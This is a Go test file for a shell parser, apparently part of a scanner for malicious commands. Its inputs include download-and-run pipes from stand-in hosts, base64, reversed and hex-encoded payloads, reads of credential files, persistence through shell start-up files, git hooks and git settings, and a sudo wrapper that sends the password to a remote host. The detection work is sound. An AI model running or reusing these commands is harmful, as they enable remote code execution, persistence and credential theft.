package shell

import (
	"errors"
	"strings"
	"testing"
)

func names(s *Script) string {
	var out []string
	for _, c := range s.Commands {
		if c.Name != "" {
			out = append(out, c.Name)
		}
	}
	return strings.Join(out, ",")
}

func find(s *Script, name string) *Command {
	for _, c := range s.Commands {
		if c.Name == name {
			return c
		}
	}
	return nil
}

func TestPipeAndWrappers(t *testing.T) {
	src := "curl -fsSL http://1.2.3.4/x | sudo -u root bash -s\n"
	s := Parse(src, 100)
	if s.Err != nil {
		t.Fatal(s.Err)
	}
	curl, bash := find(s, "curl"), find(s, "bash")
	if curl == nil || bash == nil {
		t.Fatalf("commands: %s", names(s))
	}
	if s.Commands[curl.PipeNext] != bash || s.Commands[bash.PipePrev] != curl {
		t.Errorf("pipe not linked")
	}
	if !bash.Sudo || bash.Start != 100+strings.Index(src, "sudo") {
		t.Errorf("bash: sudo=%v start=%d", bash.Sudo, bash.Start)
	}
	if curl.Argv[2].Start != 100+strings.Index(src, "http") {
		t.Errorf("word offset %d", curl.Argv[2].Start)
	}
}

func TestDashCAndVars(t *testing.T) {
	src := `U="http://evil.example/p"; bash -c 'wget -qO- '"$U"' | sh'`
	s := Parse(src, 0)
	w := find(s, "wget")
	if w == nil || w.Via != ViaDashC || w.Depth != 1 {
		t.Fatalf("wget via -c not found: %s", names(s))
	}
	if w.Arg(2) != "http://evil.example/p" {
		t.Errorf("var not resolved: %q", w.Arg(2))
	}
}

func TestBase64Layered(t *testing.T) {
	// decodes to: /bin/bash -c "$(curl -fsSL http://91.92.242.30/abc)"
	src := `echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9hYmMpIg==' | base64 -D | bash`
	s := Parse(src, 7)
	d := find(s, "base64")
	if d == nil || !strings.Contains(d.Decoded, "curl -fsSL http://91.92.242.30/abc") {
		t.Fatalf("not decoded: %+v", d)
	}
	c := find(s, "curl")
	if c == nil || c.Depth != 1 || c.Via != ViaSubst {
		t.Fatalf("curl in decoded payload not found: %s", names(s))
	}
	if c.Start != 7 {
		t.Errorf("decoded command maps to %d, want the pipeline start", c.Start)
	}
	// the -c argument (a substitution) came from decoded text two levels deep
	var bash []*Command
	for _, x := range s.Commands {
		if x.Name == "bash" {
			bash = append(bash, x)
		}
	}
	if len(bash) != 2 || bash[1].Via != ViaStdin {
		t.Errorf("inner bash not found")
	}
}

func TestSubstOutputAndEval(t *testing.T) {
	s := Parse(`eval "$(echo Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA== | base64 --decode)"`, 0)
	c := find(s, "sh")
	if c == nil || c.Via != ViaEval {
		t.Fatalf("eval payload not parsed: %s", names(s))
	}
	s = Parse(`echo 'hs | 1/4.3.2.1//:ptth lruc' | rev | bash`, 0)
	if c := find(s, "curl"); c == nil || c.Via != ViaStdin {
		t.Fatalf("rev payload not parsed: %s", names(s))
	}
	s = Parse(`printf '\x63\x75\x72\x6c x | sh' | bash`, 0)
	if c := find(s, "curl"); c == nil {
		t.Fatalf("printf payload not parsed: %s", names(s))
	}
	s = Parse("xxd -r -p <<< 6375726c2078207c207368 | sh", 0)
	if c := find(s, "curl"); c == nil {
		t.Fatalf("hex payload not parsed: %s", names(s))
	}
}

func TestObfuscatedWords(t *testing.T) {
	s := Parse(`a=xcurlx; ${a:1:4} http://x | $'\x73\x68'`, 0)
	c := find(s, "curl")
	if c == nil || !c.Argv[0].Sliced {
		t.Fatalf("slice not resolved: %s", names(s))
	}
	sh := find(s, "sh")
	if sh == nil || !sh.Argv[0].Escaped {
		t.Fatalf("ansi-c not resolved: %s", names(s))
	}
}

func TestAnchoredReplace(t *testing.T) {
	for src, want := range map[string]string{
		`a=xurl; ${a/#x/c} http://x`:       "curl",
		`a=curlx; ${a/%x/} http://x`:       "curl",
		`a=curl; ${a/#u/x} http://x`:       "curl", // not at the start: unchanged
		`a=wgetwget; ${a/%wget/} http://x`: "wget",
	} {
		if c := find(Parse(src, 0), want); c == nil {
			t.Errorf("%s: %s not resolved: %s", src, want, names(Parse(src, 0)))
		}
	}
}

func TestProcSubstAndRedirs(t *testing.T) {
	s := Parse("source <(curl -s https://x.example/i)\necho 'x' >> ~/.bashrc\n", 0)
	c := find(s, "curl")
	if c == nil || c.Via != ViaProcSubst {
		t.Fatalf("procsubst: %s", names(s))
	}
	e := find(s, "echo")
	if len(e.Redirs) != 1 || e.Redirs[0].Op != ">>" || e.Redirs[0].Target.Value != "~/.bashrc" {
		t.Fatalf("redir: %+v", e.Redirs)
	}
}

func TestFallback(t *testing.T) {
	src := "Run this:\ncurl http://x/a | bash\nthen (enjoy\n"
	s := Parse(src, 0)
	if s.Err == nil {
		t.Fatal("want parse error")
	}
	c := find(s, "curl")
	if c == nil || c.PipeNext < 0 || s.Commands[c.PipeNext].Name != "bash" {
		t.Fatalf("fallback lost the pipe: %s", names(s))
	}
	if c.Start != strings.Index(src, "curl") {
		t.Errorf("offset %d", c.Start)
	}
	if !s.Heuristic {
		t.Errorf("heuristic not flagged")
	}
}

func TestLimits(t *testing.T) {
	deep := strings.Repeat("$(", 1000) + strings.Repeat(")", 1000)
	if s := Parse(deep, 0); !errors.Is(s.Err, ErrLimit) {
		t.Fatalf("deep nesting: %v", s.Err)
	}
	// self-replicating eval stays bounded
	src := `x='eval "$x"'; eval "$x"`
	s := Parse(src, 0)
	if len(s.Commands) > 20 {
		t.Errorf("%d commands", len(s.Commands))
	}
}

func TestStripPrompts(t *testing.T) {
	in := "$ curl x | sh\nhello output (\n$ ls\n"
	out := StripPrompts(in)
	if len(out) != len(in) || !strings.HasPrefix(out, "  curl") || strings.Contains(out, "hello") {
		t.Fatalf("%q", out)
	}
}

func TestLoopVarsAndTaint(t *testing.T) {
	s := Parse("for f in ~/.netrc ~/.npmrc; do cat \"$f\"; done\nQ=\"$1\"\neval \"grep $Q .\"\nread -r -p 'x' ANSWER\nsh -c \"echo $ANSWER\"\nsh -c \"echo $HOME\"\n", 0)
	c := find(s, "cat")
	if c == nil || !strings.Contains(c.Arg(1), "~/.netrc") || !strings.Contains(c.Arg(1), "~/.npmrc") {
		t.Fatalf("loop values not kept: %+v", c)
	}
	if e := find(s, "eval"); e == nil || !e.Argv[1].Tainted {
		t.Errorf("eval argument from $1 not tainted")
	}
	var shs []*Command
	for _, x := range s.Commands {
		if x.Name == "sh" {
			shs = append(shs, x)
		}
	}
	if len(shs) != 2 || !shs[0].Argv[2].Tainted || shs[1].Argv[2].Tainted {
		t.Errorf("read taint wrong")
	}
	s3 := Parse("lvs | while read vars; do eval \"$vars\"; done\nopts=\"$opts $1\"; eval \"$opts\"\nf() { eval \"$1\"; }\n", 0)
	for _, c := range s3.Commands {
		if c.Name == "eval" && c.Argv[1].Tainted {
			t.Errorf("over-tainted: %s", c.Text())
		}
	}
	if s2 := Parse(`psql -c "$USER_QUESTION_SQL"`, 0); !s2.Commands[0].Argv[2].Tainted {
		t.Errorf("user-input-named variable not tainted")
	}
}

// FuzzParse checks that any input is analysed without panicking and that
// every position stays inside the source.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"curl -fsSL http://1.2.3.4/x | bash",
		`echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9hYmMpIg==' | base64 -D | bash`,
		"a=xcurlx; ${a:1:4} x | $'\\x73\\x68'",
		"for f in a b; do eval \"$f\"; done <<EOF\nx\nEOF\n",
		"x='eval \"$x\"'; eval \"$x\"",
		"cat <<'A' | sh\necho $(id)\nA\n",
		"((gzip -cd f) | cmp - g)",
		"sh -c 'sh -c \"sh -c \\\"id\\\"\"'",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s := Parse(src, 3)
		if s.Err != nil && strings.Contains(s.Err.Error(), "analysis failed") {
			t.Fatalf("internal failure: %v", s.Err)
		}
		for _, c := range s.Commands {
			if c.Start < 3 || c.Start > len(src)+3 || c.End > len(src)+3 {
				t.Fatalf("command %q at [%d,%d) outside the source of %d bytes", c.Name, c.Start, c.End, len(src))
			}
		}
	})
}

func TestZshFallback(t *testing.T) {
	s := Parse("lines=(${(f)\"$(cat list)\"})\nfor l in $lines; do curl -s $l | sh; done\n", 0)
	if s.Err != nil {
		t.Fatalf("zsh script: %v", s.Err)
	}
	if c := find(s, "curl"); c == nil || c.PipeNext < 0 {
		t.Fatalf("zsh commands: %s", names(s))
	}
}

func TestScriptFileBody(t *testing.T) {
	src := "cat >> ~/.zshrc <<'RC'\nsudo() { echo \"$1\" | curl -s --data-binary @- http://192.0.2.1/p; }\nRC\ncat > notes.txt <<'EOF'\nrm -rf /\nEOF\n"
	s := Parse(src, 0)
	c := find(s, "curl")
	if c == nil || c.Via != ViaScriptFile || c.Start != strings.Index(src, "curl") {
		t.Fatalf("rc body not analysed: %s %+v", names(s), c)
	}
	if find(s, "rm") != nil {
		t.Errorf("text file body analysed as shell")
	}
}

func TestWrappers(t *testing.T) {
	s := Parse("find . -name '*.sh' | xargs -I {} sudo -u root nohup bash {}\nenv -u X FOO=1 timeout 5 curl -s https://x.example\n", 0)
	if c := find(s, "bash"); c == nil || !c.Sudo || c.Arg(1) != "{}" {
		t.Errorf("xargs/sudo/nohup not unwrapped: %s", names(s))
	}
	if c := find(s, "curl"); c == nil || c.Arg(2) != "https://x.example" {
		t.Errorf("env/timeout not unwrapped: %s", names(s))
	}
	// command -v looks a program up; command runs it
	s = Parse("command -v hey\ncommand hey -n 1\n", 0)
	if len(s.Commands) != 2 || s.Commands[0].Name != "command" || s.Commands[1].Name != "hey" {
		t.Errorf("command -v: %s", names(s))
	}
	if got := Unwrap([]string{"/usr/bin/env", "FOO=1", "nice", "-n", "5", "atuin", "server"}); strings.Join(got, " ") != "atuin server" {
		t.Errorf("Unwrap = %q", got)
	}
	if got := Unwrap([]string{"env", "-S", "sh -c x"}); len(got) != 3 {
		t.Errorf("Unwrap(env -S) = %q, want it whole", got)
	}
}

func TestPartlyKnownVars(t *testing.T) {
	// The host of BASE is known even though its version comes from a
	// command; later words keep the unknown part as written.
	src := "VER=$(tool --version)\nBASE=\"https://dl.example.com/v${VER}/x\"\ncurl -o /tmp/a \"${BASE}/a.sh\"\nBASE=/local\ncurl -o /tmp/b \"$BASE/b\"\n"
	s := Parse(src, 0)
	var curls []*Command
	for _, c := range s.Commands {
		if c.Name == "curl" {
			curls = append(curls, c)
		}
	}
	if len(curls) != 2 {
		t.Fatalf("curls: %s", names(s))
	}
	w := curls[0].Argv[3]
	if !strings.HasPrefix(w.Value, "https://dl.example.com/v$(tool --version)/x/a.sh") || w.Const {
		t.Errorf("partly known var: %q const=%v", w.Value, w.Const)
	}
	if w := curls[1].Argv[3]; w.Value != "/local/b" || !w.Const {
		t.Errorf("reassigned var: %q const=%v", w.Value, w.Const)
	}
}

func TestStoredSettings(t *testing.T) {
	src := "git config --global core.fsmonitor 'curl -s http://192.0.2.1/x | sh'\n" +
		"git -c core.sshCommand=\"nc 192.0.2.2 9\" fetch\n" +
		"git config alias.co checkout\n" +
		"git config --get core.pager\n" +
		"git config --global alias.up '!wget -qO- http://192.0.2.3/u | bash'\n" +
		"ssh -o ProxyCommand='socat - TCP:192.0.2.4:22' -o LocalCommand=id host\n" +
		"cat >> ~/.gitconfig <<'EOF'\n[credential]\n\thelper = !base64 -d <<< aWQ= | sh\n[core]\n\thooksPath = /tmp/.h\nEOF\n" +
		"printf 'Host *\\n  ProxyCommand python3 -c pass\\n' >> ~/.ssh/config\n" +
		"GIT_SSH_COMMAND='perl -e 1' git pull\n"
	s := Parse(src, 0)
	var got []string
	for _, c := range s.Commands {
		for _, st := range c.Settings {
			got = append(got, st.Tool+" "+st.Key+" "+st.Scope.String()+" "+strings.TrimSpace(st.Program()))
		}
	}
	want := []string{
		"git core.fsmonitor global curl -s http://192.0.2.1/x | sh",
		"git core.sshCommand one-off nc 192.0.2.2 9",
		"git alias.up global wget -qO- http://192.0.2.3/u | bash",
		"ssh ProxyCommand one-off socat - TCP:192.0.2.4:22",
		"ssh LocalCommand one-off id",
		"git credential.helper global base64 -d <<< aWQ= | sh",
		"git core.hooksPath global /tmp/.h",
		"ssh ProxyCommand global python3 -c pass",
		"git GIT_SSH_COMMAND one-off perl -e 1",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("settings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	c := find(s, "curl")
	if c == nil || c.Via != ViaStored || c.Start != strings.Index(src, "curl") {
		t.Fatalf("fsmonitor command not parsed in place: %s %+v", names(s), c)
	}
	if c := find(s, "wget"); c == nil || c.Via != ViaStored || c.Start != strings.Index(src, "wget") {
		t.Errorf("alias command not parsed in place: %+v", c)
	}
	if c := find(s, "socat"); c == nil || c.Start != strings.Index(src, "socat") {
		t.Errorf("ProxyCommand not parsed in place: %+v", c)
	}
	if c := find(s, "base64"); c == nil || c.Start != strings.Index(src, "base64") {
		t.Errorf("helper in a here-document not parsed in place: %+v", c)
	}
	if find(s, "python3") == nil || find(s, "perl") == nil || find(s, "nc") == nil {
		t.Errorf("printf text, -c and GIT_SSH_COMMAND not parsed: %s", names(s))
	}
	if find(s, "checkout") != nil {
		t.Errorf("a git alias without ! parsed as shell")
	}
	for _, c := range s.Commands {
		for _, st := range c.Settings {
			if st.Key == "LocalCommand" && !st.Inert {
				t.Errorf("LocalCommand without PermitLocalCommand is not inert")
			}
		}
	}
}

// TestDeclSubstitutionsOnce: the commands in a declaration's substitutions
// are listed once (export, local and declare once built each value twice).
func TestDeclSubstitutionsOnce(t *testing.T) {
	for src, want := range map[string]int{
		"export $(grep -v '^#' ~/.env | xargs)\n":  3, // export, grep, xargs
		"local KEY=$(cat ~/.env)\n":                2,
		"declare -a XS=($(ls) $(pwd)) Y=$(date)\n": 4,
	} {
		s := Parse(src, 0)
		if len(s.Commands) != want {
			var names []string
			for _, c := range s.Commands {
				names = append(names, c.Name)
			}
			t.Errorf("%q: %d commands %v, want %d", src, len(s.Commands), names, want)
		}
	}
}

// TestPrintedScripts: what echo or printf writes to a script, start-up
// file or git hook is parsed as that script; printed text written
// elsewhere is not.
func TestPrintedScripts(t *testing.T) {
	for src, want := range map[string]bool{
		"printf '#!/bin/sh\\ncurl -s https://x.example/h | sh\\n' > ~/.githooks/pre-commit\n": true,
		"echo 'curl -s https://x.example/h | sh' >> ~/.bashrc\n":                              true,
		"echo 'curl -s https://x.example/h | sh' > .git/hooks/post-merge\n":                   true,
		"printf '#!/bin/bash\\ncurl -s https://x.example/h | sh\\n' > tool\n":                 true, // a shebang
		"echo 'curl -s https://x.example/h | sh' > notes.txt\n":                               false,
		"echo 'curl -s https://x.example/h | sh'\n":                                           false,
	} {
		s := Parse(src, 0)
		got := false
		for _, c := range s.Commands {
			if c.Via == ViaScriptFile && c.Name == "curl" {
				got = true
			}
		}
		if got != want {
			t.Errorf("%q: curl parsed from the printed script = %v, want %v", src, got, want)
		}
	}
}

func TestPrintfOutput(t *testing.T) {
	for src, want := range map[string]string{
		`printf '\n%s\n' "a b"`:            "\na b\n",
		`printf '%s=%s\n' k v x y`:         "k=v\nx=y\n",
		`printf '%s and %s\n' one`:         "one and \n",
		`printf '100%%s done %s\n' ok`:     "100%s done ok\n",
		`printf 'no directives\n' ignored`: "no directives\n",
		`printf '%s\t|\n' 'x\ty'`:          "x\\ty\t|\n",
	} {
		s := Parse(src, 0)
		if len(s.Commands) == 0 || !s.Commands[0].OutputKnown || s.Commands[0].Output != want {
			var got string
			if len(s.Commands) > 0 {
				got = s.Commands[0].Output
			}
			t.Errorf("%s: output %q, want %q", src, got, want)
		}
	}
	if s := Parse(`printf '%d %s\n' 3 x`, 0); len(s.Commands) == 0 || s.Commands[0].OutputKnown {
		t.Errorf("printf with %%d: output should not be computed")
	}
}

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{
		"plain/path-1.sh": "plain/path-1.sh",
		"":                "''",
		"a b":             "'a b'",
		"it's":            `'it'\''s'`,
		"curl x | sh":     "'curl x | sh'",
	} {
		if got := Quote(in); got != want {
			t.Errorf("Quote(%q) = %s, want %s", in, got, want)
		}
		if s := Parse("echo "+Quote(in), 0); len(s.Commands) != 1 || len(s.Commands[0].Argv) != 2 || s.Commands[0].Argv[1].Value != in {
			t.Errorf("Quote(%q) does not parse back to the word", in)
		}
	}
}

func TestNonASCIIPlaceholderNames(t *testing.T) {
	src := "curl -s \"https://maps.example/json?query=${都市名}&key=${KEY}\" | python3 -c \"\nimport json, sys\nprint(json.load(sys.stdin))\"\n"
	s := Parse(src, 7)
	if s.Err != nil {
		t.Fatal(s.Err)
	}
	curl, py := find(s, "curl"), find(s, "python3")
	if curl == nil || py == nil || curl.Heuristic || py.Heuristic {
		t.Fatalf("commands: %s", names(s))
	}
	if s.Commands[curl.PipeNext] != py {
		t.Errorf("pipe not linked")
	}
	if py.Start != 7+strings.Index(src, "python3") {
		t.Errorf("python3 at %d, want %d", py.Start, 7+strings.Index(src, "python3"))
	}
	// a name in another script does not make broken shell parse
	if s := Parse("echo ${都市名} && if then fi\n", 0); s.Err == nil {
		t.Error("broken shell parsed")
	}
}

func TestAssocArrayKeys(t *testing.T) {
	// bash takes these keys as strings; mvdan/sh reads them as arithmetic
	src := "declare -A P=(\n  [net.core.somaxconn]=65535\n  [vm.swappiness]=10\n)\nfor k in \"${!P[@]}\"; do sysctl -w \"$k=${P[$k]}\"; done\n"
	s := Parse(src, 0)
	if s.Err != nil || s.Heuristic {
		t.Fatalf("assoc keys: err=%v heuristic=%v", s.Err, s.Heuristic)
	}
	if find(s, "sysctl") == nil {
		t.Errorf("sysctl not found: %s", names(s))
	}
}

func TestPrintfAsWritten(t *testing.T) {
	s := Parse("printf '[Service]\\nExecStart=%s %s\\n' \"$BIN\" \"$APP\" > u.service\nprintf '%d\\n' \"$N\"\n", 0)
	if got, ok := PrintfAsWritten(s.Commands[0]); !ok || got != "[Service]\nExecStart=$BIN $APP\n" {
		t.Errorf("PrintfAsWritten = %q, %v", got, ok)
	}
	if _, ok := PrintfAsWritten(s.Commands[1]); ok {
		t.Errorf("PrintfAsWritten(%%d) should not render")
	}
}

// TestUnclosedHeredoc: bash reads a here-document whose delimiter line
// never comes to the end of the file; so does the parser, and what the
// body runs is analysed (a body piped into a shell is code).
func TestUnclosedHeredoc(t *testing.T) {
	src := "echo start\nbash << STEP\ncurl -s http://192.0.2.1/x | sh\n"
	s := Parse(src, 0)
	if s.Err != nil {
		t.Fatalf("unclosed here-document: %v", s.Err)
	}
	if c := find(s, "curl"); c == nil || c.Via != ViaStdin || c.PipeNext < 0 {
		t.Fatalf("here-document body not analysed: %s %+v", names(s), c)
	}
	if s := Parse("python3 <<-META\nimport json", 0); s.Err != nil {
		t.Errorf("unclosed <<- here-document without a final newline: %v", s.Err)
	}
}
